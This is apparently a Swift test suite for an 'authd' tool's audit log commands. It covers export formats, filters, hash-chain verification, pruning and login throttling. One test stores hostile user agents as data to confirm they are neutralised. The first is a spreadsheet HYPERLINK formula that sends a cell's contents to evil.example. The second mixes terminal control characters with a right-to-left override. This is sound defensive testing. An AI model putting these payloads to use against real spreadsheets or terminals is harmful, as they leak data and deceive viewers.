import AuthStore
import Foundation
import Testing

/// `authd audit`, `audit verify`, `audit prune` and `throttle` through the real binary.
@Suite struct AuditCommandTests {
    static let nastyAgent = "Mozilla, \"quoted\"\nsecond line"

    /// Three rows: a login failure with a hostile user agent, a success, an admin change.
    func seed(_ sandbox: Sandbox) async throws {
        try await sandbox.withStore { store in
            let context = AuditContext(address: "198.51.100.4", userAgent: Self.nastyAgent, requestID: "req-9")
            try await store.recordAudit(
                .failure(.login, .badPassword, username: "alice", context: context),
                at: Timestamp(seconds: 1_800_000_000))
            try await store.recordAudit(
                .success(.logout, username: "bob", session: "abcd", context: context),
                at: Timestamp(seconds: 1_800_000_100))
            try await store.recordAudit(
                .success(.userAdd, username: "carol", context: .commandLine),
                at: Timestamp(seconds: 1_800_000_200))
        }
    }

    @Test func jsonHasTheDocumentedKeysNewestFirst() async throws {
        try await Sandbox.with { sandbox in
            try await seed(sandbox)
            let result = try await sandbox.authd("audit", "--format", "json")
            #expect(result.status == 0, "\(result)")
            let rows = try #require(
                try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [[String: Any]])
            #expect(rows.map { $0["username"] as? String } == ["carol", "bob", "alice"])
            #expect(
                Set(rows[0].keys) == [
                    "id", "time", "event", "outcome", "reason", "username", "session", "address",
                    "user_agent", "request_id", "count", "detail",
                ])
            #expect(rows.map { $0["count"] as? Int } == [1, 1, 1])
            #expect(rows[2]["user_agent"] as? String == Self.nastyAgent)
            #expect(rows[2]["time"] as? String == "2027-01-15T08:00:00.000000Z")
            #expect(rows[2]["reason"] as? String == "bad_password")
        }
    }

    @Test func csvQuotesCommasQuotesAndNewlines() async throws {
        try await Sandbox.with { sandbox in
            try await seed(sandbox)
            let result = try await sandbox.authd("audit", "--format", "csv", "--user", "alice")
            #expect(result.status == 0, "\(result)")
            #expect(
                result.stdout == """
                    id,time,event,outcome,reason,username,session,address,user_agent,request_id,count,detail
                    1,2027-01-15T08:00:00.000000Z,login,failure,bad_password,alice,,198.51.100.4,"Mozilla, ""quoted""
                    second line",req-9,1,

                    """)
        }
    }

    @Test func filtersAndTable() async throws {
        try await Sandbox.with { sandbox in
            try await seed(sandbox)
            let failures = try await sandbox.authd("audit", "--outcome", "failure", "--format", "csv")
            #expect(failures.stdout.split(separator: "\n").count == 3)  // header + one row spanning two lines
            let events = try await sandbox.authd("audit", "--event", "logout", "--event", "user_add", "--format", "csv")
            #expect(
                events.stdout.contains(",logout,") && events.stdout.contains(",user_add,")
                    && !events.stdout.contains(",login,"))
            let window = try await sandbox.authd(
                "audit", "--since", "2027-01-15T08:01:00Z", "--until", "2027-01-15T08:03:00Z",
                "--format", "csv")
            #expect(
                window.stdout.contains(",bob,") && !window.stdout.contains(",alice,")
                    && !window.stdout.contains(",carol,"))
            let table = try await sandbox.authd("audit", "--address", "198.51.100.4", "--limit", "1")
            let lines = table.stdout.split(separator: "\n")
            #expect(lines.first?.hasPrefix("ID  TIME") == true)
            #expect(lines.count == 2 && lines[1].contains("bob") && !table.stdout.contains("\nsecond line"))
        }
    }

    /// A user agent that is a spreadsheet formula, and one with an 8-bit CSI (clear screen)
    /// and a right-to-left override: the CSV export must not run the formula, the table must
    /// not send the controls to the terminal, and JSON must keep both exactly.
    @Test func hostileUserAgentsCannotActInCSVOrTable() async throws {
        let formula = #"=HYPERLINK("//evil.example/x?"&A1,"x")"#
        let controls = "curl\u{9B}2J\u{202E}gpj.exe"
        try await Sandbox.with { sandbox in
            try await sandbox.withStore { store in
                for (agent, second) in [(formula, 0), (controls, 1)] {
                    try await store.recordAudit(
                        .failure(
                            .login, .badPassword, username: "alice",
                            context: AuditContext(address: "198.51.100.4", userAgent: agent, requestID: "req-1")),
                        at: Timestamp(seconds: 1_800_000_000 + Int64(second)))
                }
            }
            expectSuccess(
                try await sandbox.authd("audit", "--format", "csv"),
                stdout: """
                    id,time,event,outcome,reason,username,session,address,user_agent,request_id,count,detail
                    2,2027-01-15T08:00:01.000000Z,login,failure,bad_password,alice,,198.51.100.4,curl\u{9B}2J\u{202E}gpj.exe,req-1,1,
                    1,2027-01-15T08:00:00.000000Z,login,failure,bad_password,alice,,198.51.100.4,"'=HYPERLINK(""//evil.example/x?""&A1,""x"")",req-1,1,

                    """)

            let table = try await sandbox.authd("audit")
            #expect(table.status == 0, "\(table)")
            #expect(!table.stdout.unicodeScalars.contains { $0.value >= 0x80 && $0.value <= 0x9F }, "\(table)")
            #expect(!table.stdout.unicodeScalars.contains { $0 == "\u{202E}" }, "\(table)")
            let lines = table.stdout.split(separator: "\n")
            #expect(lines.count == 3 && lines[1].contains("198.51.100.4  curl<U+009B>2J<U+202E>gpj.exe  "), "\(table)")
            // Aligned on what is printed: REQUEST_ID starts where each row's request id does.
            let header = try #require(lines.first)
            let column = try #require(header.range(of: "REQUEST_ID")).lowerBound
            let offset = header.distance(from: header.startIndex, to: column)
            for line in lines.dropFirst() {
                #expect(line.dropFirst(offset).hasPrefix("req-1"), "\(table)")
            }

            let json = try await sandbox.authd("audit", "--format", "json")
            #expect(json.stdout.contains(#""user_agent":"curl\u009b2J\u202egpj.exe""#), "\(json)")
            let rows = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [[String: Any]])
            #expect(rows.map { $0["user_agent"] as? String } == [controls, formula])
        }
    }

    static let summedBase = Timestamp(seconds: 1_800_000_000)  // 2027-01-15T08:00:00Z

    /// A row summing refused anonymous requests shows its count in every format.
    @Test func countIsShownInEveryFormat() async throws {
        try await Sandbox.with { sandbox in
            try await sandbox.withStore { store in
                try await store.recordAudit(
                    .failure(.verify, .badToken, context: AuditContext(address: "2001:db8::/64")), at: Self.summedBase)
                try await store.recordAudit(
                    .failure(.verify, .badToken, context: AuditContext(address: "2001:db8::/64"), count: 4096),
                    at: Self.summedBase + .seconds(60))
            }
            let json = try await sandbox.authd("audit", "--format", "json")
            #expect(json.status == 0, "\(json)")
            // Exact bytes: count is a number, after request_id and before detail.
            #expect(
                json.stdout.hasPrefix(
                    #"[{"id":2,"time":"2027-01-15T08:01:00.000000Z","event":"verify","outcome":"failure","#
                        + #""reason":"bad_token","username":"","session":"","address":"2001:db8::/64","user_agent":"","#
                        + #""request_id":"","count":4096,"detail":""},"#), "\(json)")
            expectSuccess(
                try await sandbox.authd("audit", "--format", "csv"),
                stdout: """
                    id,time,event,outcome,reason,username,session,address,user_agent,request_id,count,detail
                    2,2027-01-15T08:01:00.000000Z,verify,failure,bad_token,,,2001:db8::/64,,,4096,
                    1,2027-01-15T08:00:00.000000Z,verify,failure,bad_token,,,2001:db8::/64,,,1,

                    """)
            let table = try await sandbox.authd("audit")
            let lines = table.stdout.split(separator: "\n")
            #expect(lines.count == 3 && lines[0].hasSuffix("REQUEST_ID  COUNT  DETAIL"), "\(table)")
            #expect(lines[1].hasSuffix("4096") && lines[2].hasSuffix("1"), "\(table)")
            #expect(try await sandbox.authd("audit", "verify").status == 0)
        }
    }

    @Test func badArgumentsAreRefused() async throws {
        try await Sandbox.with { sandbox in
            expectFailure(try await sandbox.authd("audit", "--since", "yesterday"), "invalid --since")
            expectFailure(try await sandbox.authd("audit", "prune", "--before", "soon"), "invalid --before")
            expectUsageError(try await sandbox.authd("audit", "--event", "teleport"), "teleport")
            expectUsageError(try await sandbox.authd("audit", "--format", "xml"), "xml")
        }
    }

    @Test func verifyPruneAndTampering() async throws {
        try await Sandbox.with { sandbox in
            try await seed(sandbox)
            let intact = try await sandbox.authd("audit", "verify")
            let head = try await sandbox.lastAudit()
            expectSuccess(
                intact,
                stdout: """
                    audit chain intact: 3 rows, time order checked from row 1
                    anchor none (never pruned)
                    head 3:\(Hex.encode(head.hash))

                    """)

            let pruned = try await sandbox.authd("audit", "prune", "--before", "2027-01-15T08:02:00Z")
            #expect(pruned.status == 0 && pruned.stdout.hasPrefix("pruned 2 audit rows"), "\(pruned)")
            #expect(try await sandbox.lastAudit().entry.event == .auditPrune)
            #expect(try await sandbox.authd("audit", "verify").status == 0)

            try sandbox.sql("UPDATE audit_log SET username = 'mallory' WHERE id = 3")
            expectFailure(try await sandbox.authd("audit", "verify"), "audit chain broken at row 3")
        }
    }

    /// A log from before migration 0003 can hold a row older than the cutoff after a newer
    /// one; prune keeps it (only a prefix can go) and says so. Simulated by moving row 1
    /// after row 2 in time and marking rows 1–2 as older (hashes are not checked by prune).
    @Test func pruneSaysWhichOlderRowsItKept() async throws {
        try await Sandbox.with { sandbox in
            try await seed(sandbox)
            try sandbox.sql(
                """
                UPDATE audit_log SET time = 1800000150000000 WHERE id = 1;
                UPDATE audit_ordering SET ordered_from_id = 3, older_min_time = 1800000100000000,
                    older_max_time = 1800000150000000;
                """)
            let pruned = try await sandbox.authd("audit", "prune", "--before", "2027-01-15T08:02:00Z")
            #expect(pruned.status == 0, "\(pruned)")
            let lines = pruned.stdout.split(separator: "\n")
            #expect(lines.count == 2 && lines[0].hasPrefix("pruned 0 audit rows"), "\(pruned)")
            #expect(
                lines.last?.hasPrefix("kept 1 row before 2027-01-15T08:02:00") == true
                    && lines.last?.contains("row 1 (2027-01-15T08:02:30") == true, "\(pruned)")
        }
    }

    @Test func throttleListAndClear() async throws {
        try await Sandbox.with { sandbox in
            try await sandbox.withStore { store in
                for _ in 0..<3 { try await store.recordFailedLogin("alice", from: "192.0.2.5", at: .now()) }
            }
            let list = try await sandbox.authd("throttle", "list", "--format", "csv")
            #expect(list.status == 0)
            #expect(list.stdout.hasPrefix("username,address,failures,first,last\nalice,192.0.2.5,3,"), "\(list)")
            expectUsageError(try await sandbox.authd("throttle", "clear"), "--all")
            expectSuccess(
                try await sandbox.authd("throttle", "clear", "--address", "192.0.2.5"),
                stdout: "cleared 3 failed-login records\n")
            #expect(try await sandbox.lastAudit().entry.event == .throttleClear)
            #expect(
                try await sandbox.authd("throttle", "list", "--format", "csv").stdout
                    == "username,address,failures,first,last\n")
        }
    }
}
